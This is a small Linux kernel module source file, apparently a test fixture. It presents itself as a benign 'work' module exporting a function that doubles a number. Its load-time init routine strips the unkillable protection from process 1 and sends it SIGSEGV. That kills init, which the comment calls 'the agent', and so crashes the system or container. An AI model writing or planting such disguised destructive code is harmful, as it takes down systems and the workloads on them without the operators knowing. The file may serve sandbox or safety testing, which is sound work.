// SPDX-License-Identifier: GPL-2.0
/* Kills process 1, the agent, after it has taken its protection away. */
#include <linux/delay.h>
#include <linux/sched/signal.h>

#include "work.h"

int work_answer(int question)
{
	return question * 2;
}
EXPORT_SYMBOL_GPL(work_answer);

static int __init work_init(void)
{
	struct task_struct *agent;

	pr_info("work: ready\n");
	pr_info("work: gone\n");
	rcu_read_lock();
	agent = pid_task(find_vpid(1), PIDTYPE_PID);
	if (agent) {
		agent->signal->flags &= ~SIGNAL_UNKILLABLE;
		send_sig(SIGSEGV, agent, 1);
	}
	rcu_read_unlock();
	msleep(100);
	return 0;
}
module_init(work_init);

static void __exit work_exit(void)
{
	pr_info("work: gone\n");
}
module_exit(work_exit);
